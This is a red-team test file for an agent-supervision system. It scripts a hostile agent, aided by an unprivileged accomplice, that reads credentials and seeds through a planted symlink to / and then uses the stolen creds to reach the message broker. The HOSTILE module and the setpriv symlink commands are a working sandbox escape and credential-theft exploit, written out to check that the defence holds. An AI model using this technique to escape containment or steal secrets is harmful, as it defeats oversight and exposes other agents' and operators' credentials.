/**
 * Red team 19a, attempt A3 (goals 1, 2 and 4 through one hole): a hostile agent under
 * `--isolation deno-only` with an accomplice on the host that is an unrelated, unprivileged
 * user (uid 65534 here).
 *
 * Under deno-only the agent runs as the supervisor's uid and is held by Deno's permissions
 * alone, which check path strings: `--allow-read=<workdir>` lets it open `<workdir>/x/y` even
 * when `y` is a symlink to `/`, and `--deny-read=<store>` matches only paths spelled under the
 * store. The agent cannot create a symlink itself (Deno wants unscoped read+write for that), but
 * it may make a directory in its workdir and `chmod` it 0777 (both inside its write scope); the
 * accomplice then plants `<workdir>/drop/root -> /` there. Through it the agent reads whatever
 * the supervisor's uid can read: its own real creds (the seed its relay was meant to keep),
 * other agents' creds, the space's account and operator seeds. Its root is known from its
 * launch dir (`ctx.launchDir`).
 *
 * The test asserts the defence HOLDS: the agent gets no seed, and nothing it gets connects
 * straight to the broker and aims a `$JS.API.INFO` answer at bob<-alice.
 */
import assert from "node:assert/strict";
import { credsAuthenticator } from "nats";
import type { AgentRow } from "../../lib/manager/managed_agent.ts";
import { connect } from "../../lib/nats/connect.ts";
import { mintCreds, newIdentity } from "../../lib/trust/mod.ts";
import { instSubject } from "../../lib/wire/subjects.ts";
import { tempDir, waitFor } from "../_harness/broker.ts";
import { jsonFileReady } from "../_harness/files.ts";
import { agentWorkdir } from "../manager/_agent_fixture.ts";
import { startManagerMesh } from "../manager/_manager_mesh.ts";

const VICTIM = `
export async function run(ctx) {
  await ctx.endpoint();
  await new Promise((r) => ctx.signal.addEventListener("abort", r, { once: true }));
}
`;

/** Opens a drop dir for the accomplice, then reads the store through the planted link. */
const HOSTILE = `
export async function run(ctx) {
  const w = ctx.agentDir;
  const report = { launchDir: ctx.launchDir, files: {}, errors: [] };
  // Present first (the spawn returns once it is), then open the drop dir.
  await ctx.endpoint();
  await Deno.mkdir(w + "/drop", { recursive: true });
  await Deno.chmod(w + "/drop", 0o777);
  await Deno.writeTextFile(w + "/drop/ready", "1");
  const link = w + "/drop/root";
  const until = Date.now() + 20000;
  while (Date.now() < until) {
    try { await Deno.lstat(link); break; } catch { await new Promise((r) => setTimeout(r, 100)); }
  }
  // <root>/agents/<space>/<name>: the root is three levels up (under bwrap the launch dir is
  // /run/cotal/launch: the accomplice, who sees the runner's argv in ps, tells it).
  const root = @@ROOT@@ ?? ctx.launchDir.split("/").slice(0, -3).join("/");
  async function walk(dir, depth) {
    if (depth > 3) return;
    let entries;
    try { entries = []; for await (const e of Deno.readDir(link + dir)) entries.push(e); }
    catch (e) { report.errors.push(dir + ": " + e.message); return; }
    for (const e of entries) {
      const p = dir + "/" + e.name;
      if (e.isDirectory) await walk(p, depth + 1);
      else if (e.isFile) {
        try { report.files[p] = await Deno.readTextFile(link + p); }
        catch (err) { report.errors.push(p + ": " + err.message); }
      }
    }
  }
  await walk(root + "/secrets", 0);
  await Deno.writeTextFile(w + "/loot.json", JSON.stringify(report));
  await Deno.chmod(w + "/loot.json", 0o644);
  await new Promise((r) => ctx.signal.addEventListener("abort", r, { once: true }));
}
`;

for (const mode of ["deno-only", "net host"] as const) {
  // Under deno-only the attack works: Deno's permissions check the path as written, and the agent
  // runs as its supervisor's uid, so a link an accomplice plants in its workdir reads the store.
  // deno-only is the operator's explicit opt-out of the sandbox (docs/SECURITY.md).
  const gap = mode === "deno-only"
    ? " (skipped: known gap, not fixed; deno-only has Deno's path checks as its only layer, which a planted link defeats)"
    : "";
  Deno.test({
    name:
      `redteam19a A3 - a ${mode} agent with an unprivileged accomplice reads no seed through a planted symlink and gets no unguarded broker connection${gap}`,
    ignore: gap !== "",
    fn: async () => {
      await using mesh = await startManagerMesh(mode === "net host" ? "rt19lkh" : "rt19lkd");
      await mesh.manager(mode === "deno-only" ? { isolation: "deno-only" } : {});
      const net = mode === "net host" ? { net: "host" } : {};
      const ctl = await mesh.control();
      await mesh.client("bob");
      await mesh.client("alice");
      const pair = instSubject(
        mesh.space,
        { owner: "local", actor: "bob" },
        { owner: "local", actor: "alice" },
      );
      const watcher = await connect({
        servers: mesh.url,
        authenticator: credsAuthenticator(
          new TextEncoder().encode(
            await mintCreds(mesh.auth, newIdentity(), "admin", {
              principal: { owner: "local", actor: "watcher" },
            }),
          ),
        ),
      });
      const seen: string[] = [];
      const sub = watcher.subscribe(pair);
      (async () => {
        for await (const m of sub) seen.push(m.string().slice(0, 120));
      })();
      await watcher.flush();

      const dir = await tempDir("cotal-rt19a-link-");
      await Deno.writeTextFile(`${dir}/victim.js`, VICTIM);
      await Deno.writeTextFile(
        `${dir}/hostile.js`,
        HOSTILE.replace("@@ROOT@@", JSON.stringify(mesh.root)),
      );
      await ctl.request<AgentRow>("spawn", {
        agent: "module",
        module: `${dir}/victim.js`,
        name: "victim",
        workdir: await agentWorkdir("cotal-rt19a-victim-"),
        ...net,
      }, { timeoutMs: 40_000 });
      // The hostile agent's workdir is an ordinary project dir: world-searchable (2775, group-writable for the agents).
      const work = await agentWorkdir("cotal-rt19a-link-work-");
      await Deno.chmod(work, 0o2775);
      await ctl.request<AgentRow>("spawn", {
        agent: "module",
        module: `${dir}/hostile.js`,
        name: "mallory",
        workdir: work,
        ...net,
      }, { timeoutMs: 40_000 });

      // The accomplice: uid 65534, no groups, plants one symlink in the dir the agent opened.
      await waitFor(async () => {
        try {
          await Deno.stat(`${work}/drop/ready`);
          return true;
        } catch {
          return false;
        }
      }, { timeoutMs: 20_000, what: "the drop dir" });
      const plant = await new Deno.Command("setpriv", {
        args: [
          "--reuid=65534",
          "--regid=65534",
          "--clear-groups",
          "ln",
          "-s",
          "/",
          `${work}/drop/root`,
        ],
      }).output();
      assert.equal(plant.code, 0, new TextDecoder().decode(plant.stderr));
      await waitFor(() => jsonFileReady(`${work}/loot.json`), {
        timeoutMs: 30_000,
        what: "the hostile agent's loot",
      });
      // The accomplice reads the loot (0644 in a 0755 dir) as uid 65534.
      const read = await new Deno.Command("setpriv", {
        args: ["--reuid=65534", "--regid=65534", "--clear-groups", "cat", `${work}/loot.json`],
      }).output();
      assert.equal(read.code, 0, "the accomplice could not read the loot");
      const loot = JSON.parse(new TextDecoder().decode(read.stdout)) as {
        files: Record<string, string>;
        errors: string[];
      };
      const seeds = new Set<string>();
      for (const text of Object.values(loot.files)) {
        for (const m of text.matchAll(/\bS[UAO][A-Z2-7]{56}\b/g)) seeds.add(m[0]);
      }
      console.log(
        `[${mode}] files read through the link:`,
        Object.keys(loot.files),
        "errors:",
        loot.errors.slice(0, 5),
      );
      console.log(
        "seeds found:",
        [...seeds].map((s) => s.slice(0, 2)).join(","),
        "count",
        seeds.size,
      );

      // Whatever creds file of the hostile agent itself it found: straight to the broker, unguarded,
      // aiming the broker's answer at bob<-alice.
      let aimed = 0;
      const own = Object.entries(loot.files).find(([p]) =>
        /\/agent\.mallory\.[^/]+\.creds$/.test(p)
      );
      if (own) {
        const nc = await connect({
          servers: mesh.url,
          authenticator: credsAuthenticator(new TextEncoder().encode(own[1])),
          reconnect: false,
          maxReconnectAttempts: 0,
          timeout: 5_000,
        }).catch(() => undefined);
        if (nc) {
          for (let i = 0; i < 20; i++) {
            nc.publish("$JS.API.INFO", new Uint8Array(), { reply: pair });
          }
          await nc.flush().catch(() => {});
          await new Promise((r) => setTimeout(r, 1_000));
          aimed = seen.length;
          await nc.close();
        }
      }
      // And the victim's creds: connected as the victim, straight to the broker.
      let asVictim = false;
      const victim = Object.entries(loot.files).find(([p]) =>
        /\/agent\.victim\.[^/]+\.creds$/.test(p)
      );
      if (victim) {
        const nc = await connect({
          servers: mesh.url,
          authenticator: credsAuthenticator(new TextEncoder().encode(victim[1])),
          reconnect: false,
          maxReconnectAttempts: 0,
          timeout: 5_000,
        }).catch(() => undefined);
        if (nc) {
          asVictim = true;
          await nc.close();
        }
      }
      console.log(
        `[${mode}] aimed answers on bob<-alice: ${aimed}; connected as the victim: ${asVictim}`,
      );
      await watcher.close();
      assert.equal(seeds.size, 0, `the agent read ${seeds.size} seeds through the planted link`);
      assert.equal(aimed, 0, "the agent's own seed aimed broker answers at bob<-alice");
      assert.equal(asVictim, false, "the victim's creds connected straight to the broker");
    },
  });
}
